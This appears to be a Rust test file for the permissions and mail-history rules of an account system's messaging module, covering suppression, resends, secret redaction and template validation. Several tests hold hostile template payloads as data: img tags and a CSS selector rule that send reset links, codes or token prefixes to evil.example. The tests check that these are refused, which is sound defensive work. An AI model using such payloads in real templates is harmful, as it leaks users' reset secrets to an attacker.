//! Who may do what about mails: nobody reads a secret, shuts a superuser out or sends on what tells of an account because
//! they may write templates or repair mails.

#![expect(clippy::unwrap_used, reason = "builders and checks outside of the test functions")]

use std::time::Duration;

use sereno_core::account::password;
use sereno_core::context::Staff;
use sereno_core::messages;
use sereno_core::port::mail::MailError;
use sereno_core::templates::{draft, publish};
use sereno_core::testing::{TestSereno, by_link, refused, refused_fields};
use sereno_types::{
    AddSuppression, Code, EmailSource, ForgotPassword, MessageDetail, MessageQuery, MessageReason, MessageState,
    PublishEmailTemplate, ResendMessage, SaveEmailDraft, SendMessage, TestEmailTemplate,
};

/// Staff of the support, who may repair mails and hold nothing that a superuser holds.
async fn support(test: &TestSereno) -> Staff {
    test.with_role("sam", "support").await;
    let sam = test.actor("sam").await;
    test.staff(&sam).await
}

async fn forgot(test: &TestSereno, identifier: &str) {
    let command = ForgotPassword {
        identifier: identifier.to_owned(),
    };
    password::forgot(&test.sereno, &test.meta(), command).await.unwrap();
}

async fn find(test: &TestSereno, query: MessageQuery) -> Vec<MessageDetail> {
    let staff = test.system().await;
    let page = messages::list(&test.sereno, &staff, query).await.unwrap();
    let mut found = Vec::new();
    for row in page.items {
        found.push(messages::detail(&test.sereno, &staff, &row.id).await.unwrap());
    }
    found
}

fn kind(kind: &str) -> MessageQuery {
    MessageQuery {
        kind: Some(kind.to_owned()),
        ..MessageQuery::default()
    }
}

fn to(address: &str) -> ResendMessage {
    ResendMessage {
        recipient: Some(address.to_owned()),
    }
}

#[tokio::test]
async fn nobody_but_a_superuser_shuts_one_out() {
    let test = TestSereno::new().await;
    test.superuser("root").await;
    let (sam, system) = (support(&test).await, test.system().await);
    let list = |address: &str| AddSuppression {
        address: address.to_owned(),
        note: None,
    };
    let suppress =
        async |staff: &Staff, address: &str| messages::suppress(&test.sereno, &test.meta(), staff, list(address)).await;
    assert_eq!(
        refused(suppress(&sam, "ROOT@example.org").await),
        Code::PermissionDenied
    );
    suppress(&sam, "somebody@example.org").await.unwrap();
    let listed = suppress(&system, "root@example.org").await.unwrap();
    let take_off = async |staff: &Staff| messages::unsuppress(&test.sereno, &test.meta(), staff, &listed.id).await;
    assert_eq!(refused(take_off(&sam).await), Code::PermissionDenied);
    take_off(&system).await.unwrap();
    forgot(&test, "root@example.org").await;
    assert_eq!(test.mails().await.len(), 1);
}

#[tokio::test]
async fn putting_all_back_spares_the_mails_of_superusers() {
    let test = TestSereno::new().await;
    test.superuser("root").await;
    test.user("ana").await;
    let sam = support(&test).await;
    test.mails().await;
    test.mail.refuse_with(Some(MailError::Never("550 no".to_owned())));
    for name in ["root", "ana"] {
        forgot(&test, &format!("{name}@example.org")).await;
    }
    test.mails().await;
    test.mail.refuse_with(None);
    let counted = async |query: MessageQuery| {
        let count = messages::count_stopped(&test.sereno, &sam, query, false).await;
        count.unwrap().released
    };
    let of = |user: &str| MessageQuery {
        user: Some(user.to_owned()),
        ..MessageQuery::default()
    };
    assert_eq!(
        (counted(MessageQuery::default()).await, counted(of("root")).await),
        (1, 0)
    );
    let again = messages::retry_failed(&test.sereno, &test.meta(), &sam, MessageQuery::default())
        .await
        .unwrap();
    assert_eq!(again.released, 1);
    assert_eq!(test.mails().await[0].recipient, "ana@example.org");
    let rest = messages::retry_failed(
        &test.sereno,
        &test.meta(),
        &test.system().await,
        MessageQuery::default(),
    )
    .await
    .unwrap();
    assert_eq!(rest.released, 1);
}

#[tokio::test]
async fn what_tells_of_an_account_goes_to_that_account() {
    let test = TestSereno::new().await;
    test.user("ana").await;
    test.mails().await;
    forgot(&test, "ana@example.org").await;
    let mail = test.mails().await.remove(0);
    let reset = sereno_types::ResetPassword {
        token: by_link(&mail).token,
        password: "another good one 7".into(),
        ..sereno_types::ResetPassword::default()
    };
    password::reset(&test.sereno, &test.meta(), reset).await.unwrap();
    test.mails().await;
    let notice = find(&test, kind("password_changed")).await.remove(0);
    let staff = test.system().await;
    let resend =
        async |command| messages::resend(&test.sereno, &test.meta(), &staff, &notice.message.id, command).await;
    assert_eq!(refused(resend(to("eve@example.org")).await), Code::RecipientBound);
    let again = resend(to("Ana@example.org")).await.unwrap();
    assert_eq!((again.ok, again.code), (true, MessageReason::EmailInQueue));
    assert_eq!(test.mails().await[0].recipient, "Ana@example.org");
    // and what cannot leave says so at once
    let list = AddSuppression {
        address: "ana@example.org".to_owned(),
        note: None,
    };
    messages::suppress(&test.sereno, &test.meta(), &staff, list)
        .await
        .unwrap();
    let stays = resend(ResendMessage::default()).await.unwrap();
    assert_eq!((stays.ok, stays.code), (false, MessageReason::AddressSuppressed));
    let row = messages::detail(&test.sereno, &staff, &stays.id.unwrap())
        .await
        .unwrap();
    assert_eq!(row.message.state, MessageState::Skipped);
}

#[tokio::test]
async fn a_sample_that_is_held_back_is_let_go_with_all_others() {
    let test = TestSereno::with(|config| config.mail.hold = true).await;
    let staff = test.system().await;
    let command = TestEmailTemplate {
        to: Some("ana@example.org".to_owned()),
    };
    let place = ("activation", "en");
    sereno_core::templates::preview::send(&test.sereno, &test.meta(), &staff, place, command)
        .await
        .unwrap();
    assert!(test.mails().await.is_empty());
    let held = find(&test, kind("test")).await.remove(0);
    assert_eq!(held.message.kind, "test.activation");
    assert!(held.preview.is_some_and(|preview| preview.is_sample));
    // what is held back is not retried but let go
    let refused_by = messages::retry(&test.sereno, &test.meta(), &staff, &held.message.id).await;
    assert_eq!(refused(refused_by), Code::StateConflict);
    let released = messages::release_all(&test.sereno, &test.meta(), &staff, MessageQuery::default())
        .await
        .unwrap();
    assert_eq!(released.released, 1);
    assert_eq!(test.mails().await.len(), 1);
}

#[tokio::test]
async fn the_history_says_what_the_answer_said() {
    let test = TestSereno::new().await;
    let staff = test.system().await;
    let ask = async |to: &[&str]| {
        let command = SendMessage {
            recipients: to.iter().map(|&text| text.to_owned()).collect(),
            subject: Some("Reset".to_owned()),
            text: Some("Open https://shop.example/reset?token=SECRETOFSHOP or type 123456.".to_owned()),
            queued: Some(false),
            ..SendMessage::default()
        };
        messages::send(&test.sereno, &test.meta(), &staff, command)
            .await
            .unwrap()
    };
    let sent = ask(&["ana@example.org", "ANA@example.org", "nobody"]).await;
    test.mail.refuse_with(Some(MailError::Never("550 no".to_owned())));
    let failed = ask(&["bea@example.org"]).await;
    for result in sent.results.iter().chain(&failed.results) {
        let by = MessageQuery {
            reason: Some(result.code),
            ..MessageQuery::default()
        };
        let found = find(&test, by).await;
        let this = found
            .iter()
            .find(|detail| Some(&detail.message.id) == result.id.as_ref());
        assert_eq!(this.map(|detail| detail.message.code), Some(result.code));
    }
    let codes: Vec<MessageReason> = sent.results.iter().map(|result| result.code).collect();
    assert_eq!(
        codes,
        [
            MessageReason::EmailSent,
            MessageReason::DuplicateRecipient,
            MessageReason::InvalidEmail
        ]
    );
    assert_eq!(failed.results[0].code, MessageReason::EmailNotSent);
    // what is kept of another service's mail is shown without its secrets
    let kept = messages::detail(&test.sereno, &staff, &failed.results[0].id.clone().unwrap())
        .await
        .unwrap();
    let shown = kept.preview.unwrap().text;
    assert!(!shown.contains("SECRETOFSHOP") && !shown.contains("123456"), "{shown}");
}

#[tokio::test]
async fn a_test_mail_is_one_of_ours() {
    let test = TestSereno::new().await;
    let staff = test.system().await;
    let try_it = async |address: &str| {
        let command = sereno_types::TestMail {
            recipient: address.to_owned(),
        };
        messages::test(&test.sereno, &test.meta(), &staff, None, command).await
    };
    assert_eq!(try_it("ana@example.org").await.unwrap().code, MessageReason::EmailSent);
    assert_eq!(find(&test, kind("test")).await[0].message.kind, "test");
    assert_eq!(
        refused_fields(try_it("ana").await),
        [("recipient".to_owned(), Code::InvalidEmail)]
    );
    test.mail.refuse_with(Some(MailError::Never("550 no".to_owned())));
    assert_eq!(
        try_it("ana@example.org").await.unwrap().code,
        MessageReason::EmailNotSent
    );
}

#[tokio::test]
async fn what_staff_writes_hands_no_secret_to_others() {
    let test = TestSereno::new().await;
    test.superuser("root").await;
    let staff = test.system().await;
    let place = ("password_reset", "en");
    let evil = r#"<p>{{ code }}</p><img src="https://evil.example/?{{ link }}">"#;
    let save = async |html: &str| {
        let command = SaveEmailDraft {
            subject: "Reset".to_owned(),
            text: "{{ link }}".to_owned(),
            html: html.to_owned(),
            note: None,
        };
        draft::save(&test.sereno, &test.meta(), &staff, place, command).await
    };
    assert_eq!(
        refused_fields(save(evil).await),
        [("html".to_owned(), Code::TemplateSyntaxError)]
    );
    assert_eq!(
        refused_fields(save("{% for c in code %}{{ c }}{% endfor %}{{ link }}").await),
        [("html".to_owned(), Code::TemplateSyntaxError)]
    );
    save(r#"<p><a href="{{ link }}">Set</a></p>"#).await.unwrap();
    publish::publish(
        &test.sereno,
        &test.meta(),
        &staff,
        place,
        PublishEmailTemplate::default(),
    )
    .await
    .unwrap();
    forgot(&test, "root@example.org").await;
    assert!(test.mails().await[0].html.contains(">Set</a>"));
    // as it may have been published before this was looked at
    let update = format!(
        "UPDATE email_template_version SET html = '{}'",
        evil.replace('\'', "''")
    );
    sea_orm::ConnectionTrait::execute_unprepared(test.sereno.db.write(), &update)
        .await
        .unwrap();
    test.advance(Duration::from_hours(1));
    forgot(&test, "root@example.org").await;
    let mail = test.mails().await.remove(0);
    assert!(!mail.html.contains("evil.example"), "the shipped words leave");
    let seen = sereno_core::templates::show::detail(&test.sereno, &staff, place.0, place.1)
        .await
        .unwrap();
    assert!(seen.broken_since.is_some());
}

#[tokio::test]
async fn every_shipped_mail_may_be_written_anew() {
    let test = TestSereno::new().await;
    let staff = test.system().await;
    let query = sereno_types::EmailTemplateQuery {
        limit: Some(200),
        ..sereno_types::EmailTemplateQuery::default()
    };
    let page = sereno_core::templates::list::list(&test.sereno, &staff, query)
        .await
        .unwrap();
    assert!(page.items.len() > 15);
    for row in page.items {
        for language in ["en", "de", "es"] {
            let place = (row.name.as_str(), language);
            let shown = sereno_core::templates::show::detail(&test.sereno, &staff, place.0, place.1)
                .await
                .unwrap();
            let EmailSource { subject, text, html } = shown.shipped.unwrap();
            let command = SaveEmailDraft {
                subject,
                text,
                html,
                note: None,
            };
            draft::save(&test.sereno, &test.meta(), &staff, place, command)
                .await
                .unwrap();
            publish::publish(
                &test.sereno,
                &test.meta(),
                &staff,
                place,
                PublishEmailTemplate::default(),
            )
            .await
            .unwrap();
        }
    }
}

/// The mail of another service may hold a code: nobody sends it to themselves because it did not leave.
#[tokio::test]
async fn what_was_written_to_an_account_is_sent_anew_to_that_account_alone() {
    let test = TestSereno::new().await;
    test.user("ana").await;
    let staff = test.system().await;
    let command = SendMessage {
        recipients: vec!["ana@example.org".to_owned(), "nobody@example.org".to_owned()],
        subject: Some("Shop".to_owned()),
        text: Some("Type 123456.".to_owned()),
        ..SendMessage::default()
    };
    let sent = messages::send(&test.sereno, &test.meta(), &staff, command)
        .await
        .unwrap();
    let resend = async |at: usize| {
        let id = sent.results[at].id.clone().unwrap();
        messages::cancel(&test.sereno, &test.meta(), &staff, &id).await.unwrap();
        let again = messages::resend(&test.sereno, &test.meta(), &staff, &id, to("eve@example.org")).await;
        (again, id)
    };
    let (again, id) = resend(0).await;
    assert_eq!(refused(again), Code::RecipientBound);
    let own = messages::resend(&test.sereno, &test.meta(), &staff, &id, to("Ana@example.org")).await;
    assert!(own.unwrap().ok);
    assert!(
        resend(1).await.0.unwrap().ok,
        "an address without an account may have been mistyped"
    );
}

/// Whoever may not see users learns from no history and no notification whose account an address is.
#[tokio::test]
async fn an_address_tells_no_account_to_whom_may_not_see_users() {
    let test = TestSereno::new().await;
    test.user("ana").await;
    forgot(&test, "ana@example.org").await;
    test.mails().await;
    let system = test.system().await;
    let command = SendMessage {
        recipients: vec!["ana@example.org".to_owned()],
        subject: Some("Shop".to_owned()),
        text: Some("Hello".to_owned()),
        ..SendMessage::default()
    };
    let sent = messages::send(&test.sereno, &test.meta(), &system, command)
        .await
        .unwrap();
    let id = sent.results[0].id.clone().unwrap();
    let role = sereno_types::CreateRole {
        codename: "sender".to_owned(),
        permissions: vec!["messages.view".to_owned(), "messages.manage".to_owned()],
        ..sereno_types::CreateRole::default()
    };
    sereno_core::roles::roles::create(&test.sereno, &test.meta(), &system, role)
        .await
        .unwrap();
    test.with_role("sam", "sender").await;
    let sam = test.actor("sam").await;
    let sam = test.staff(&sam).await;
    let named = async |staff: &Staff| {
        let detail = messages::detail(&test.sereno, staff, &id).await.unwrap();
        let list = messages::list(&test.sereno, staff, kind("custom")).await.unwrap();
        let timeline = messages::timeline(&test.sereno, staff, sereno_types::TimelineQuery::default())
            .await
            .unwrap();
        let in_timeline = timeline.items.into_iter().find(|row| row.id == id).unwrap();
        [
            detail.message.user.is_some(),
            list.items[0].user.is_some(),
            in_timeline.user.is_some(),
        ]
    };
    assert_eq!((named(&sam).await, named(&system).await), ([false; 3], [true; 3]));
    let ours = messages::list(&test.sereno, &sam, kind("password_reset"))
        .await
        .unwrap();
    assert!(
        ours.items[0].user.is_some(),
        "what was sent to an account belongs to it"
    );
}

#[tokio::test]
async fn the_code_of_an_invitation_and_a_footer_that_watches_are_refused() {
    let test = TestSereno::new().await;
    let staff = test.system().await;
    let save = async |name: &str, html: &str| {
        let command = SaveEmailDraft {
            subject: if name == "footer" {
                String::new()
            } else {
                "Hello".to_owned()
            },
            text: "{{ brand }} {{ link }}".replace(" {{ link }}", if name == "footer" { "" } else { " {{ link }}" }),
            html: html.to_owned(),
            note: None,
        };
        draft::save(&test.sereno, &test.meta(), &staff, (name, "en"), command).await
    };
    for (name, html) in [
        (
            "invitation",
            r#"<a href="{{ link }}">Open</a><img src="https://evil.example/?{{ address }}&{{ code }}">"#,
        ),
        (
            "footer",
            r#"<style>a[href*="token=A"] { background: url(https://evil.example/A) }</style>"#,
        ),
    ] {
        assert_eq!(
            refused_fields(save(name, html).await),
            [("html".to_owned(), Code::TemplateSyntaxError)],
            "{name}"
        );
    }
    save("footer", "<p style=\"color: #555\">{{ brand }}</p>")
        .await
        .unwrap();
}
